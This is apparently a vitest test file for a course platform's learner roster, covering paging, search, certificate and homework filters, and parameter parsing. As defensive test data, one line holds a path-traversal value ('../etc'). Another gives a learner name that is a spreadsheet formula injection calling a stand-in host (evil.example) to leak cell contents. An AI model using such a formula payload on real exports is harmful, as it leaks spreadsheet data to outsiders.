import path from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { loadCourse } from '../../course/load.ts'
import type { LoadedCourse } from '../../course/loaded-course.ts'
import { db } from '../db/client.ts'
import { seedCourseRows, type SeededCourse } from '../submissions/testing/seed-course.ts'
import { roster, ROSTER_PAGE_SIZE, rosterQuery } from './roster.ts'

let mini: LoadedCourse
let seeded: SeededCourse

beforeAll(async () => {
  mini = await loadCourse(path.resolve('tests/fixtures/courses/mini'))
  seeded = await seedCourseRows(mini)
  const hw1 = mini.weeks[0]!.homework!
  const firstQuestion = seeded.questionIds[`${hw1.slug}/${hw1.questions[0]!.slug}`]!
  for (let i = 0; i < ROSTER_PAGE_SIZE + 5; i++) {
    const user = await db.user.create({ data: { email: `r${i}@example.com`, name: i === 7 ? 'Grace Hopper' : `Learner ${i}` } })
    await db.enrollment.create({ data: { userId: user.id, courseId: seeded.courseId, points: i, homeworkPoints: i } })
    if (i % 2 === 0) {
      const submission = await db.submission.create({ data: { userId: user.id, questionId: firstQuestion, answer: {}, attempt: 1 } })
      // Every fourth learner answered correctly, the other submitters wrongly.
      await db.gradingRun.create({ data: { submissionId: submission.id, engine: 'quiz', status: 'succeeded', verdict: i % 4 === 0 ? 'correct' : 'incorrect', points: 0 } })
    }
    if (i === 9) await db.certificate.create({ data: { userId: user.id, courseId: seeded.courseId, recipientName: 'L9', verificationCode: 'abcdefghjkmnpqrstuv9' } })
  }
})

const query = (input: Record<string, string>) => rosterQuery.parse(input)

describe('the roster', () => {
  it('pages by points, highest first, with the certification state from the course rules', async () => {
    const first = await roster(seeded.courseId, mini, query({}))
    expect(first.total).toBe(ROSTER_PAGE_SIZE + 5)
    expect(first.rows).toHaveLength(ROSTER_PAGE_SIZE)
    expect(first.rows[0]!.email).toBe(`r${ROSTER_PAGE_SIZE + 4}@example.com`)
    // The mini course needs the final project: the roster reads its results (none submitted here), so
    // nobody is "not evaluable" — everyone without a certificate is "in progress" (as their dashboard says).
    expect(new Set(first.rows.map((row) => row.certification))).toEqual(new Set(['in_progress', 'certified']))
    expect((await roster(seeded.courseId, mini, query({ page: '2' }))).rows).toHaveLength(5)
  })

  it('searches by name or email and filters by certificate and homework', async () => {
    expect((await roster(seeded.courseId, mini, query({ q: 'hopper' }))).rows.map((r) => r.email)).toEqual(['r7@example.com'])
    const certified = await roster(seeded.courseId, mini, query({ certification: 'certified' }))
    expect(certified.rows.map((r) => [r.email, r.certification])).toEqual([['r9@example.com', 'certified']])
    expect((await roster(seeded.courseId, mini, query({ certification: 'not_certified' }))).total).toBe(ROSTER_PAGE_SIZE + 4)
    const hw1 = mini.weeks[0]!.homework!.slug
    const submitted = await roster(seeded.courseId, mini, query({ homework: hw1 }))
    expect(submitted.total).toBe(Math.ceil((ROSTER_PAGE_SIZE + 5) / 2))
    expect(submitted.rows.every((r) => r.submissions === 1)).toBe(true)
    const missing = await roster(seeded.courseId, mini, query({ homework: hw1, submitted: 'no' }))
    expect(missing.total).toBe(Math.floor((ROSTER_PAGE_SIZE + 5) / 2))
    const correct = await roster(seeded.courseId, mini, query({ homework: hw1, verdict: 'correct' }))
    expect(correct.total).toBe(Math.ceil((ROSTER_PAGE_SIZE + 5) / 4))
    const wrong = await roster(seeded.courseId, mini, query({ homework: hw1, verdict: 'wrong' }))
    expect(wrong.total + correct.total).toBe(submitted.total)
    expect(wrong.rows.every((row) => Number(row.email.slice(1).split('@')[0]) % 4 === 2)).toBe(true)
  })

  it('reads junk parameters as defaults', () => {
    expect(query({ page: '-3', certification: 'everyone!', homework: '../etc', submitted: 'maybe', verdict: 'great' })).toEqual({ q: '', page: 1, certification: 'all', homework: undefined, submitted: 'yes', verdict: 'any' })
  })

  it('says "eligible, no name" for an eligible learner whose name cannot be printed on a certificate', async () => {
    const homeworkOnly = { ...mini, config: { ...mini.config, certificate: { min_homework_score: 0.5, project_required: false, reviews_required: 0 } } }
    const maxPoints = mini.weeks.reduce((sum, week) => sum + (week.homework?.totalPoints ?? 0), 0)
    const enrol = async (email: string, name: string, certificateName: string | null = null) => {
      const user = await db.user.create({ data: { email, name } })
      await db.enrollment.create({ data: { userId: user.id, courseId: seeded.courseId, points: 1000, homeworkPoints: maxPoints, certificateName } })
    }
    await enrol('hostile@example.com', '=HYPERLINK("http://evil.example/?"&A1,"click")')
    await enrol('renamed@example.com', '=HYPERLINK("x")', 'Ada Lovelace')
    await enrol('plain@example.com', 'Alan Turing')
    const states = async (q: string) => (await roster(seeded.courseId, homeworkOnly, query({ q }))).rows.map((row) => row.certification)
    expect(await states('hostile@')).toEqual(['eligible_no_name'])
    expect(await states('renamed@')).toEqual(['eligible'])
    expect(await states('plain@')).toEqual(['eligible'])
  })
})
